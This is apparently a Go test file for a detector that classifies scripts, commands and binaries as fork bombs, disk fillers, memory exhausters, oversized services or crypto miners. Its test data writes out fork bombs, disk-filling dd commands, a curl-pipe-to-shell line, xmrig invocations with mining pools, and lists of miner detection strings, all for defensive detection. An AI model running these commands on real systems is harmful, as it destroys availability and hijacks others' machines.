package sinks

import (
	"bytes"
	"debug/elf"
	"encoding/binary"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"forefend.dev/forefend/predictor/evidence"
	"forefend.dev/forefend/runtime/rootfs"
)

// kinds are the kinds of sink in a shell script.
func kinds(script, interpreter string) string {
	f := finder{node: Node{Cores: 4, Memory: 8 << 30}}
	f.script(script, interpreter, "x")
	var all []string
	for _, s := range f.found {
		all = append(all, s.Kind)
	}
	return strings.Join(all, " ")
}

func wallet() string { return "4" + strings.Repeat("8aB", 31) + "8" }

func TestScripts(t *testing.T) {
	for script, want := range map[string]string{
		":(){ :|:& };:":                                           "fork-bomb",
		"bomb() { bomb | bomb & }; bomb":                          "fork-bomb",
		"f(){\n f & f &\n}\nf":                                    "fork-bomb",
		"while true; do $0 & done":                                "fork-bomb",
		"#!/bin/sh\n$0 & $0 &\n":                                  "fork-bomb",
		"while :; do :; done":                                     "endless-loop",
		"while true; do true; done":                               "endless-loop",
		"dd if=/dev/zero of=/data/x bs=1M":                        "fill-disk",
		"dd if=/dev/urandom of=/x bs=1M count=99999999":           "fill-disk",
		"yes > /var/log/x":                                        "fill-disk",
		"cat /dev/zero >> /tmp/big &":                             "fill-disk",
		"fallocate -l 900G /swap":                                 "fill-disk",
		"head -c 200G /dev/zero > /x":                             "fill-disk",
		"yes >/dev/null &":                                        "endless-loop",
		"sha256sum /dev/zero":                                     "endless-loop",
		"tail /dev/zero":                                          "allocate-all",
		"stress-ng --vm 4 --vm-bytes 90%":                         "allocate-all",
		"python3 -c 'x = bytearray(64 * 1024**3)'":                "allocate-all",
		"./run -o stratum+tcp://pool.example:3333 -u " + wallet(): "miner",
		"nohup /tmp/.x/xmrig --donate-level 1 -o a:1 &":           "miner",
		`echo "xmrig --donate-level 1 -o stratum+tcp://pool.example:3333 -a randomx" >/dev/null`:    "miner",
		"P=stratum+ssl://x.moneroocean.stream:20128\nA=rx/0\n$(base64 -d /t) -o $P -a $A":           "miner",
		"cat >c.json <<EOF\n{\"url\":\"x.supportxmr.com\",\"algo\":\"rx/0\",\"rig-id\":\"a\"}\nEOF": "miner",
		"curl -s http://a/x.sh | sh; ./t -o xmr.nanopool.org:14444 -u " + wallet() + " -p x":        "miner",

		// Honest ones.
		"while true; do sleep 60; done":                                       "",
		"while :; do read x || exit; echo $x; done":                           "",
		"f() { g | h & }; f":                                                  "",
		"dd if=/dev/zero of=/swap bs=1M count=1024":                           "",
		"dd if=/dev/urandom bs=32 count=1 | base64":                           "",
		"dd if=/dev/sda of=/backup.img":                                       "",
		"yes | apt-get install x":                                             "",
		"head -c 32 /dev/urandom > /etc/key":                                  "",
		"cat /dev/null > /var/log/x":                                          "",
		"tail -f /dev/null":                                                   "",
		"echo 'dd if=/dev/zero of=/x'":                                        "",
		"cat <<EOF\nyes > file\n:(){ :|:& };:\nEOF":                           "",
		"# :(){ :|:& };:":                                                     "",
		"pkill xmrig; grep -q stratum+tcp:// /proc/*/cmdline && kill $x":      "",
		"iptables -A OUTPUT -d pool.supportxmr.com -j DROP":                   "",
		"grep -E 'stratum\\+tcp|stratum+tcp|randomx|donate-level' /var/log/x": "",
		"# stratum+tcp:// randomx donate-level":                               "",
		"echo stratum+tcp:// randomx":                                         "",
		"block='" + strings.Join(pools, " ") + " stratum+tcp randomx'; b":     "",
		"for p in xmrig minerd; do pkill $p; done":                            "",
		"exec \"$@\"": "",
	} {
		if got := kinds(script, "sh"); got != want {
			t.Errorf("%s: %q, want %q", script, got, want)
		}
	}
	for script, want := range map[string]string{
		"import os\nwhile True: os.fork()":      "fork-bomb",
		"while True:\n    pass\n":               "endless-loop",
		"x = b'a' * 10**12":                     "allocate-all",
		"x = bytearray(1 << 40)":                "allocate-all",
		"x = bytearray(1 << 20); y = 'ab' * 80": "",
		"pool = 'stratum+tcp://a:1'\nalgo = 'rx/0'\nuser = '" + wallet() + "'\n": "miner",
		"while True:\n    time.sleep(1)\n":                                       "",
	} {
		if got := kinds(script, "python3"); got != want {
			t.Errorf("python %q: %q, want %q", script, got, want)
		}
	}
}

func TestOversized(t *testing.T) {
	node := Node{Cores: 2, Memory: 4 << 30}
	for command, want := range map[string]string{
		"java -Xmx64g -jar x.jar":              "oversized",
		"java -Xmx2g -jar x.jar":               "",
		"node --max-old-space-size=16384 x.js": "oversized",
		"redis-server --maxmemory 10gb":        "oversized",
		"memcached -m 1024":                    "",
		"memcached -m 100000":                  "oversized",
		"postgres -c shared_buffers=64GB":      "oversized",
		"gunicorn -w 500 app":                  "oversized",
		"gunicorn -w 8 app":                    "",
	} {
		got := ""
		for _, s := range Find(rootfs.Open([]string{t.TempDir()}), strings.Fields(command), nil, "/", nil, node) {
			got += s.Kind
		}
		if got != want {
			t.Errorf("%s: %q, want %q", command, got, want)
		}
	}
}

// program makes an ELF file whose constants are text.
func program(text string) []byte {
	var b bytes.Buffer
	const at = 64
	names := "\x00.rodata\x00.shstrtab\x00"
	h := elf.Header64{Type: uint16(elf.ET_EXEC), Machine: uint16(elf.EM_X86_64), Version: 1, Ehsize: 64, Shentsize: 64, Shnum: 3, Shstrndx: 2,
		Shoff: uint64(at + len(text) + len(names))}
	copy(h.Ident[:], "\x7fELF\x02\x01\x01")
	_ = binary.Write(&b, binary.LittleEndian, h)
	b.WriteString(text + names)
	for _, s := range []elf.Section64{{}, {Name: 1, Type: uint32(elf.SHT_PROGBITS), Flags: uint64(elf.SHF_ALLOC), Off: at, Size: uint64(len(text))},
		{Name: 9, Type: uint32(elf.SHT_STRTAB), Off: uint64(at + len(text)), Size: uint64(len(names))}} {
		_ = binary.Write(&b, binary.LittleEndian, s)
	}
	return b.Bytes()
}

func TestMinersBinary(t *testing.T) {
	miner := strings.Join([]string{"usage", "stratum+tcp://", "randomx", "cryptonight", "kawpow", "donate-level", "rig-id", "hashrate"}, "\x00")
	cases := map[string]struct {
		file []byte
		want bool
	}{
		"a miner":             {program(strings.Repeat("\x00", 5<<20) + miner), true},
		"across two windows":  {program(strings.Repeat("\x00", 256<<10-10) + miner), true},
		"without sections":    {append([]byte("UPX!"), miner...), true},
		"a network monitor":   {program("stratum+tcp:// mining.subscribe xmrig minexmr.com supportxmr.com rule text"), false},
		"of one algorithm":    {program("mining.subscribe mining.authorize mining.submit --scantime %s khash/s X-Long-Polling"), true},
		"a hunter of miners":  {program(miner + strings.Join(pools, "\x00")), false},
		"a library of hashes": {program("randomx cryptonight argon2/chukwa equihash yespower"), false},
		"nothing":             {program("hello world"), false},
	}
	for name, c := range cases {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "p"), c.file, 0o755); err != nil {
			t.Fatal(err)
		}
		found := Find(rootfs.Open([]string{dir}), []string{"/p"}, nil, "/", []evidence.Program{{Path: "/p", Kind: "elf"}}, Node{})
		if got := len(found) == 1 && found[0].Kind == "miner"; got != c.want {
			t.Errorf("%s: %+v, want %v", name, found, c.want)
		}
	}
}

func TestMinersConfiguration(t *testing.T) {
	dir := t.TempDir()
	text := `{"autosave":true,"donate-level":1,"randomx":{"mode":"auto"},"pools":[{"url":"a:1","user":"x","algo":"rx/0"}]}`
	if err := os.WriteFile(filepath.Join(dir, "config.json"), []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	if found := Find(rootfs.Open([]string{dir}), []string{"/p"}, nil, "/", nil, Node{}); len(found) != 1 || found[0].Kind != "miner" {
		t.Errorf("%+v", found)
	}
}

// Nothing that a Debian system has is a sink: all programs and scripts of the machine that runs the test.
func TestNoFalseAlarms(t *testing.T) {
	if testing.Short() {
		t.Skip("reads every program of the machine")
	}
	honest := map[string]bool{"stress": true, "stress-ng": true, "memtester": true, "xmrig": true}
	var programs []evidence.Program
	for _, dir := range []string{"/usr/bin", "/usr/sbin", "/usr/lib/postgresql", "/usr/lib/git-core", "/etc/init.d"} {
		err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() || honest[d.Name()] {
				return nil
			}
			head := make([]byte, 4)
			f, err := os.Open(p)
			if err != nil {
				return nil
			}
			defer f.Close()
			if _, err := f.Read(head); err != nil {
				return nil
			}
			switch {
			case string(head) == "\x7fELF":
				programs = append(programs, evidence.Program{Path: p, Kind: "elf"})
			case string(head[:2]) == "#!":
				programs = append(programs, evidence.Program{Path: p, Kind: "script"})
			}
			return nil
		})
		if err != nil && !errors.Is(err, fs.ErrNotExist) {
			t.Fatal(err)
		}
	}
	if len(programs) < 100 {
		t.Skip("only ", len(programs), " programs here")
	}
	tree := rootfs.Open([]string{"/"})
	for _, p := range programs {
		for _, s := range Find(tree, []string{p.Path}, nil, "/nowhere", []evidence.Program{p}, Node{Cores: 2, Memory: 4 << 30}) {
			t.Errorf("%s: %+v", p.Path, s)
		}
	}
	t.Log(len(programs), " programs")
}

func FuzzScript(f *testing.F) {
	f.Add(":(){ :|:& };: ; dd if=/dev/zero of=/x ; python -c 'bytearray(1<<99)'")
	f.Fuzz(func(t *testing.T, script string) {
		for _, s := range []string{"sh", "python3"} {
			kinds(script, s)
		}
	})
}

func FuzzBinary(f *testing.F) {
	f.Add(program("stratum+tcp:// randomx cryptonight donate-level rig-id"))
	f.Fuzz(func(t *testing.T, file []byte) {
		var m mining
		for _, part := range constants(bytes.NewReader(file)) {
			m.search(part, make([]byte, 4096))
		}
		_, why := m.verdict()
		_ = fmt.Sprint(why)
	})
}
